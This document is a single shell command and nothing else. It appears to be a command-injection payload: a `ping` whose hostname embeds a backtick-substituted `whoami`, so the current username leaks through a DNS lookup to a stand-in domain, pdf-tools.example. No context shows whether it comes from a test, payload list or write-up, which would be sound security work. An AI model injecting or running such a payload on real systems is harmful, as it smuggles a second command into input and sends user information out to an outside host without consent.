ping -c1 `whoami`.pdf-tools.example
